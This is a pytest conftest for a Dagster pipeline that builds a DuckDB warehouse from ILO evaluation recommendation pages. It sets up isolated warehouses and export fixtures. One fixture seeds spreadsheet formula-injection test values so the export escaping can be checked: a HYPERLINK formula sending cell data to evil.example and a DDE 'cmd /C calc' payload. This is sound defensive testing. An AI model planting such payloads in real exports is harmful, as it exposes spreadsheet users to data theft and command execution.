"""What the tests share: a Dagster home without telemetry, the command line, and warehouses that are made only once.

Whatever forgets to say where its warehouse is writes to a scratch folder, never to the project's own `warehouse/`.
"""

from __future__ import annotations

import datetime
import gc
import os
import shutil
import signal
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import Executor
from dataclasses import dataclass
from pathlib import Path

import hypothesis
import pytest

PROJECT = Path(__file__).parent.parent
PAGES = PROJECT / "tests" / "pages"
SHIPPED = PROJECT / "seeds" / "pages"

# Dagster reads DAGSTER_HOME when it is imported: before any test module is.
_SCRATCH = Path(tempfile.mkdtemp(prefix="ieval-tests-"))
_HOME = _SCRATCH / "dagster"
_HOME.mkdir()
(_HOME / "dagster.yaml").write_text("telemetry:\n  enabled: false\nnux:\n  enabled: false\n", encoding="utf-8")
for _name in [name for name in os.environ if name.startswith("IEVAL_")]:
    del os.environ[_name]
os.environ["DAGSTER_HOME"] = str(_HOME)
os.environ["IEVAL_WAREHOUSE"] = str(_SCRATCH / "nobody-said-where")
os.environ["COLUMNS"] = "100"
# All modules and tests stay until the end: at its usual pace the collector would look at them for a tenth of the time.
gc.set_threshold(50_000)
# That a busy machine takes its time fails no test.
hypothesis.settings.register_profile("patient", deadline=None, suppress_health_check=[hypothesis.HealthCheck.too_slow])
hypothesis.settings.load_profile("patient")
# In the background of a shell signals may be ignored, and whoever is started from here would inherit that.
for _number, _handler in ((signal.SIGINT, signal.default_int_handler), (signal.SIGTERM, signal.SIG_DFL)):
    if signal.getsignal(_number) is signal.SIG_IGN:
        signal.signal(_number, _handler)


def pytest_unconfigure() -> None:
    shutil.rmtree(_SCRATCH, ignore_errors=True)


Ieval = Callable[..., subprocess.CompletedProcess[str]]


def run_ieval(*arguments: str | Path, **environment: str) -> subprocess.CompletedProcess[str]:
    """`ieval …` in a process of its own, from a folder that is nobody's."""
    variables = {**os.environ, "PYTHONPATH": str(PROJECT), **environment}
    command = [sys.executable, "-m", "pipelines", *map(os.fspath, arguments)]
    return subprocess.run(command, capture_output=True, encoding="utf-8", env=variables, cwd=_SCRATCH, timeout=300)


@pytest.fixture(scope="session")
def ieval() -> Ieval:
    """Runs the command line in a process of its own."""
    return run_ieval


@dataclass(frozen=True)
class Built:
    """A warehouse that `ieval run` made, and what it said."""

    folder: Path
    stdout: str
    stderr: str

    @property
    def database(self) -> Path:
        return self.folder / "ieval.duckdb"


def _build(folder: Path, *arguments: str | Path) -> Built:
    # DAGSTER_HOME unset: the home is the warehouse's own.
    done = run_ieval("run", *arguments, "--warehouse", folder, DAGSTER_HOME="")
    assert done.returncode == 0, done.stderr
    return Built(folder, done.stdout, done.stderr)


def _shared(built: Built) -> Iterator[Built]:
    """Lend a warehouse to all tests; fails at the end if one of them has left anything in it."""
    before = {path.name for path in built.folder.iterdir()}
    yield built
    assert {path.name for path in built.folder.iterdir()} == before


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Built]:
    """The warehouse of tests/pages. Only to be read."""
    yield from _shared(_build(tmp_path_factory.mktemp("hostile"), PAGES, "--json"))


@pytest.fixture(scope="session")
def shipped(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Built]:
    """The warehouse of seeds/pages, which is what a run reads that is told nothing. May be run again."""
    yield from _shared(_build(tmp_path_factory.mktemp("shipped")))


@pytest.fixture
def fresh_process(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """A warehouse folder for what runs inside the test process, with nothing left of the run before it."""
    from pipelines import stages

    folder = tmp_path / "warehouse"
    monkeypatch.setenv("IEVAL_WAREHOUSE", str(folder))
    monkeypatch.setattr(stages.LOG, "messages", [])
    monkeypatch.setattr(stages.LOG, "facts", {})
    monkeypatch.setattr(stages.LOG, "seconds", {})
    return folder


@pytest.fixture(scope="session")
def build() -> Callable[..., object]:
    """Brings a warehouse up to date without Dagster: the functions that the assets call, in their order."""
    from pipelines import engine, settings, warehouse
    from pipelines.pages import add_pages
    from pipelines.settings import Settings
    from pipelines.sources import Passed, list_files, read_files

    def up_to_date(
        folder: Path,
        sources: Sequence[str | Path],
        seen_at: datetime.datetime,
        is_stated: bool = False,
        open_executor: Callable[[], Executor] | None = None,
    ) -> object:
        knobs = Settings(warehouse=folder)
        files = list_files([str(source) for source in sources], Passed())
        add_pages(knobs.page_store, read_files(files, Passed()), seen_at, is_stated)
        reader = engine.PartReader(settings.REFERENCE, open_executor, fewest_parts=1)
        reader.finish(reader.outdated(engine.part_files(knobs)))
        warehouse.refresh_tables(knobs)
        return warehouse.refresh_database(knobs, "a-run")

    return up_to_date


HUGE = "A long plan 👩‍🏫. " * 2700  # more than an Excel cell holds, however one counts
DANGEROUS = {
    "recommendation_900501.txt": {
        "eval_title": "=1+1",
        "comments": "@SUM(1+9)*cmd|' /C calc'!A0",
        "action_plan": HUGE,
        "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    },
    "recommendation_900502.txt": {
        "eval_title": "+41 22 799 61 11",
        "comments": "-2+3",
        "action_plan": "<r><t>raw</t></r>",
        "title": "\u202eRecommendation _x0041_ with \x01\x0b\x1f\x7f\ufffe and an emoji 👩‍🏫 and a lone\rreturn",
    },
    "recommendation_900503.txt": {
        "eval_title": "Inspección del trabajo",
        "comments": 'The labour inspectors, l’inspection & "quotes", commas; semicolons',
        "action_plan": "In Cambodia, the labour inspectors will visit every quarry.\nIn Kenya, una inspección más.",
        "title": "La inspección llegó a tiempo; los inspectores también.",
    },
}


@pytest.fixture(scope="session")
def dangerous(
    tmp_path_factory: pytest.TempPathFactory, build: Callable[[Path, Sequence[str | Path], datetime.datetime], object]
) -> Path:
    """The folder of a warehouse whose texts would do harm if a program took them for more than texts."""
    pages = tmp_path_factory.mktemp("dangerous-pages")
    for name, texts in DANGEROUS.items():
        number = int(name[15:21])
        lines = ["Go to ILO main website", "Back to index", "", texts["eval_title"], "", "eval_number:", str(number)]
        lines += ["location:", "country:", "Cambodia", "region:", "Asia and the Pacific", ""]
        lines += ["eval_title:", texts["eval_title"], "recommendations:", "date:", "2021-11-05 00:00:00.0"]
        for key in ("comments", "action_plan", "title"):
            lines += [f"{key}:", texts[key]]
        lines += ["management_response:", "Completed", "progress:", "Achieved", "admin_units:", "CO-Kathmandu"]
        lines += ["url:", f"https://webapps.ilo.org/ievaldiscovery/recommendations/{number}", "", "Skip to top"]
        (pages / name).write_text("\n".join(lines), encoding="utf-8", newline="")
    folder = tmp_path_factory.mktemp("dangerous")
    build(folder, [pages], datetime.datetime(2026, 11, 22, 5, tzinfo=datetime.UTC))
    return folder


def _export(warehouse: Path, to: Path) -> Path:
    from pipelines.export.exporting import export_all
    from pipelines.settings import Settings

    export_all(Settings(warehouse=warehouse), to=str(to))
    return to


@pytest.fixture(scope="session")
def exported(hostile: Built, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The export of the warehouse of tests/pages in all default formats. Only to be read."""
    return _export(hostile.folder, tmp_path_factory.mktemp("exported"))


@pytest.fixture(scope="session")
def exported_dangerous(dangerous: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The export of the warehouse of dangerous texts in all default formats. Only to be read."""
    return _export(dangerous, tmp_path_factory.mktemp("exported-dangerous"))


@pytest.fixture
def reference_copy(tmp_path: Path) -> Iterator[Path]:
    """A copy of seeds/reference to do harm to."""
    folder = tmp_path / "reference"
    shutil.copytree(PROJECT / "seeds" / "reference", folder)
    yield folder
